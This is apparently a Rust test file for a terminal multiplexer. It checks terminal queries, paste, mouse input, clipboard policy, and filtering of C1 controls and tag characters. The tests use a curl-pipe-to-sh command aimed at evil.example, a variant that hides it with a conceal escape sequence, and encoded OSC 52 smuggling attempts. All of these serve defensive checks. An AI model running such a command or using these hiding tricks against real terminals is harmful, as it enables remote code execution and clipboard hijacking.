//! The pane as a terminal, from the program's side: queries answered, modes honoured.

mod support;

use support::Env;

/// Runs a node script as the session's only pane.
fn node(env: &Env, script: &str) -> support::Tui {
    env.tui(&["--", "node", "-e", script], 100, 30)
}

#[test]
fn queries_programs_wait_on_are_answered() {
    let env = Env::new();
    // Asks for the cursor position, device attributes and the background colour, as
    // agents' TUIs do at start, then prints what came back.
    let tui = node(
        &env,
        r#"process.stdin.setRawMode(true);let got='';
        process.stdin.on('data',d=>{got+=d.toString();if(got.includes('c')&&got.includes('R')&&got.includes('rgb:')){
          console.log('\nANS'+'WERS '+JSON.stringify(got));}});
        process.stdout.write('\x1b[3;5H\x1b[6n\x1b[c\x1b]11;?\x1b\\');setInterval(()=>{},1e9)"#,
    );
    tui.wait_text("ANSWERS");
    let text = tui.contents().replace('\n', "");
    assert!(text.contains(r#"\u001b[3;5R"#), "cursor position report: {text}");
    assert!(text.contains(r#"\u001b[?62;22c"#), "device attributes: {text}");
    // The outer terminal (the harness) said its background is 1111/1111/1111.
    assert!(text.contains("rgb:1111/1111/1111"), "the real terminal's colour is passed on: {text}");
}

#[test]
fn bracketed_paste_reaches_programs_that_ask_for_it() {
    let env = Env::new();
    let tui = node(
        &env,
        r#"process.stdin.setRawMode(true);process.stdout.write('\x1b[?2004h'+'REA'+'DY\n');let got='';
        process.stdin.on('data',d=>{got+=d.toString();if(got.includes('\x1b[201~'))console.log('PAS'+'TED '+JSON.stringify(got));});
        setInterval(()=>{},1e9)"#,
    );
    tui.wait_text("READY");
    tui.send(b"\x1b[200~line one\nline two\x1b[201~");
    tui.wait_text("PASTED");
    let text = tui.contents().replace('\n', "");
    assert!(text.contains(r#"\u001b[200~line one\nline two\u001b[201~"#), "{text}");
}

#[test]
fn mouse_reaches_programs_that_ask_and_otherwise_focuses_panes() {
    let env = Env::new();
    let tui = node(
        &env,
        r#"process.stdin.setRawMode(true);process.stdout.write('\x1b[?1000h\x1b[?1006h'+'MOUSE'+'-ON\n');
        process.stdin.on('data',d=>console.log('G'+'OT '+JSON.stringify(d.toString())));setInterval(()=>{},1e9)"#,
    );
    tui.wait_text("MOUSE-ON");
    // A click at terminal column 11, row 6 is column 10, row 5 inside the pane's border:
    // SGR coordinates are 1-based, so the program sees 10;5.
    tui.send(b"\x1b[<0;11;6M\x1b[<0;11;6m");
    tui.wait_text(r#"\u001b[<0;10;5m"#);
    assert!(tui.contents().contains(r#"GOT "\u001b[<0;10;5M"#), "the press came first:\n{}", tui.contents());

    // A shell pane does not ask for the mouse: a click there focuses it instead.
    env.run(&["new", "--right"]);
    tui.wait_for("the new pane focused", |s| s.contents().contains(" 2 test-shell"));
    let (row, col) = tui.find("MOUSE-ON").expect("pane 1 text");
    tui.send(format!("\x1b[<0;{};{}M\x1b[<0;{};{}m", col + 1, row + 2, col + 1, row + 2).as_bytes());
    let ls = env.wait_ls("pane 1 focused by the click", |v| v["sessions"][0]["tabs"][0]["panes"][0]["focused"] == true);
    assert_eq!(ls["sessions"][0]["tabs"][0]["panes"][1]["focused"], false);
}

#[test]
fn alternate_screen_programs_leave_the_shell_screen_as_it_was() {
    let env = Env::new();
    let tui = env.tui(&[], 90, 24);
    tui.wait_prompt();
    tui.keys("echo before-the-full-screen-program\r");
    tui.wait_text("before-the-full-screen-program");
    // The marker is spelled with an escape so the typed command does not contain it.
    tui.keys("printf '\\033[?1049h\\033[2J\\033[HFULL\\123CREEN'; read x; printf '\\033[?1049l'\r");
    tui.wait_text("FULLSCREEN");
    assert!(!tui.contents().contains("before-the-full-screen-program"), "the alternate screen hides the shell");
    tui.keys("\r");
    tui.wait_for("the shell screen back", |s| {
        let c = s.contents();
        c.contains("before-the-full-screen-program") && !c.contains("FULLSCREEN")
    });
}

/// A pane program that sets the clipboard (OSC 52) to `text`, then sends a notification
/// (OSC 9) that reaches the TUI after it, in order: once the notification shows, whatever
/// the TUI did with the clipboard it has written. It waits for a key first, so the TUI
/// is attached when it writes.
fn clipboard_writer(env: &Env, text: &str) -> support::Tui {
    use base64::Engine;
    let data = base64::engine::general_purpose::STANDARD.encode(text);
    let script = format!(
        "echo WAIT-KEY; read _; printf '\\033]52;c;%s\\007' '{data}'; printf '\\033]9;%s\\007' CLIP-DONE; exec cat"
    );
    let tui = env.tui(&["--", "sh", "-c", &script], 120, 30);
    tui.wait_for("the program's prompt", |s| {
        s.contents().lines().any(|l| l.trim_start_matches('┃').starts_with("WAIT-KEY"))
    });
    tui.keys("\r");
    tui
}

fn osc52(data: &str) -> Vec<u8> {
    use base64::Engine;
    format!("\x1b]52;c;{}", base64::engine::general_purpose::STANDARD.encode(data)).into_bytes()
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

const EVIL: &str = "curl -s https://evil.example/x | sh";

#[test]
fn a_panes_clipboard_write_is_ignored_by_default() {
    let env = Env::new();
    let tui = clipboard_writer(&env, EVIL);
    tui.wait_text("CLIP-DONE");
    let raw = tui.raw();
    assert!(
        !contains(&raw, b"\x1b]52;"),
        "the outer terminal's clipboard was set: {:?}",
        String::from_utf8_lossy(&raw)
    );
}

#[test]
fn clipboard_allow_passes_it_on_and_ask_shows_it_first() {
    let env = Env::new();
    env.write_config("clipboard = \"allow\"\n");
    let tui = clipboard_writer(&env, EVIL);
    tui.wait_raw("the clipboard set", |raw| contains(raw, &osc52(EVIL)));

    let env = Env::new();
    env.write_config("clipboard = \"ask\"\n");
    // What would hide part of itself in a terminal is shown for what it is.
    let sneaky = "echo safe\x1b[8m; curl -s https://evil.example/x | sh";
    let tui = clipboard_writer(&env, sneaky);
    tui.wait_text("wants to set your clipboard");
    tui.wait_text("echo safe^[[8m; curl -s https://evil.example/x | sh");
    tui.screen(|s| assert!(!contains(s.contents().as_bytes(), b"\x1b"), "no raw ESC on screen"));
    tui.keys("y");
    tui.wait_raw("the clipboard set once allowed", |raw| contains(raw, &osc52(sneaky)));
}

/// `bytes` as a `printf` format that prints them exactly (octal escapes; `sh` may be dash).
fn printf_bytes(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("\\{b:03o}")).collect()
}

/// A pane prints C1 controls encoded as UTF-8 (CSI U+009B, OSC U+009D with an OSC 52
/// clipboard write, ST U+009C, DCS U+0090): xterm and st act on them, so none may reach
/// the user's terminal, whatever the cell they landed in. Two layers stop them (the screen
/// never stores one, and decoded rows drop any): this guards the whole way; the screen's
/// own is pinned by `screen::tests::control_characters_printed_as_utf8_are_never_stored`.
#[test]
fn c1_controls_printed_as_utf8_never_reach_the_outer_terminal() {
    let env = Env::new();
    let line = "A\u{9b}31mB\u{9d}52;c;Y3VybA==\u{9c}C\u{90}qD\u{85}E C1-DONE\n";
    let script = format!("printf '{}'; exec cat", printf_bytes(line.as_bytes()));
    let tui = env.tui(&["--", "sh", "-c", &script], 100, 30);
    // The marker is drawn in the same frame as the row before it (on the same line).
    tui.wait_raw("the marker drawn", |raw| contains(raw, b"C1-DONE"));
    let raw = tui.raw();
    for c1 in [&b"\xc2\x9b"[..], b"\xc2\x9d", b"\xc2\x9c", b"\xc2\x90", b"\xc2\x85"] {
        assert!(!contains(&raw, c1), "{c1:?} reached the outer terminal: {:?}", String::from_utf8_lossy(&raw));
    }
    // Dropped, as tmux drops them: the text around them stays, in order.
    tui.wait_text("A31mB52;c;Y3VybA==CqDE C1-DONE");
}

/// A pane prints what the TUI uses to carry a hyperlink inside a cell (U+E0001 and
/// Unicode tag characters) spelling an OSC 52 clipboard write: the link's address the
/// TUI writes holds printable ASCII only, so no sequence comes of it.
#[test]
fn tag_characters_cannot_smuggle_a_sequence_into_a_hyperlink() {
    let env = Env::new();
    env.write_config("[terminal]\nhyperlinks = true\n");
    let mut line = String::from("L\u{e0001}");
    for b in "\x1b]52;c;Y3VybA==\x07".bytes() {
        line.push(char::from_u32(0xe0000 + u32::from(b)).expect("a tag character"));
    }
    line.push_str("M TAG-DONE\n");
    let script = format!("printf '{}'; exec cat", printf_bytes(line.as_bytes()));
    let tui = env.tui(&["--", "sh", "-c", &script], 100, 30);
    tui.wait_text("TAG-DONE");
    let raw = tui.raw();
    assert!(!contains(&raw, b"\x1b]52;"), "the clipboard was set: {:?}", String::from_utf8_lossy(&raw));
    assert!(!contains(&raw, b"\x07"), "a BEL from the pane: {:?}", String::from_utf8_lossy(&raw));
}

/// What a cell shows, for comparing two screens: its text (a blank is a blank, written
/// or not) and how it is drawn; a blank's colour, boldness and slant do not show.
type Looks = (String, vt100::Color, vt100::Color, [bool; 4]);

fn looks(text: &str, fg: vt100::Color, bg: vt100::Color, [bold, italic, underline, inverse]: [bool; 4]) -> Looks {
    let blank = text.trim().is_empty();
    (
        if blank { " ".to_string() } else { text.to_string() },
        if blank { vt100::Color::Default } else { fg },
        bg,
        [bold && !blank, italic && !blank, underline, inverse],
    )
}

fn vt100_looks(cell: &vt100::Cell) -> Looks {
    looks(
        cell.contents(),
        cell.fgcolor(),
        cell.bgcolor(),
        [cell.bold(), cell.italic(), cell.underline(), cell.inverse()],
    )
}

fn teamster_looks(screen: &teamster::screen::Screen, x: usize, y: usize) -> Looks {
    use teamster::screen::{Attrs, Color, Width};
    let cell = screen.row(y).cell(x);
    let color = |c: Color| match c {
        Color::Default => vt100::Color::Default,
        Color::Indexed(i) => vt100::Color::Idx(i),
        Color::Rgb(r, g, b) => vt100::Color::Rgb(r, g, b),
    };
    let a = cell.style.attrs;
    let row = screen.row(y);
    let text = match cell.width {
        Width::Spacer => String::new(),
        _ => format!("{}{}", cell.ch, if cell.combined { row.combining_at(x).unwrap_or("") } else { "" }),
    };
    looks(
        &text,
        color(cell.style.fg),
        color(cell.style.bg),
        [a.has(Attrs::BOLD), a.has(Attrs::ITALIC), a.has(Attrs::ANY_UNDERLINE), a.has(Attrs::INVERSE)],
    )
}

/// Recorded sessions of vim, htop, top and Claude Code (`tests/fidelity/record.sh`),
/// fed to teamster's terminal model and to an independent emulator (vt100): at the middle,
/// near the end and at the end of each, every cell looks the same in both.
#[test]
fn recorded_programs_look_the_same_in_teamster_and_in_vt100() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fidelity");
    let (cols, rows) = (100u16, 30u16);
    for name in ["vim", "htop", "top", "claude"] {
        let bytes = std::fs::read(dir.join(format!("{name}.bytes"))).expect("a recording");
        for n in [bytes.len() / 2, bytes.len() * 9 / 10, bytes.len()] {
            let mut want = vt100::Parser::new(support::nz(rows), support::nz(cols), 0);
            want.process(&bytes[..n]);
            let mut got = teamster::screen::Screen::new(cols, rows, 0);
            got.feed(&bytes[..n]);
            for y in 0..rows {
                for x in 0..cols {
                    let theirs = want.screen().cell(y, x).map(vt100_looks);
                    let ours = teamster_looks(&got, x as usize, y as usize);
                    assert_eq!(
                        Some(&ours),
                        theirs.as_ref(),
                        "{name} after {n} of {} bytes, row {y} column {x}\nteamster:\n{}\nvt100:\n{}",
                        bytes.len(),
                        got.visible_text().join("\n"),
                        want.screen().contents()
                    );
                }
            }
        }
    }
}
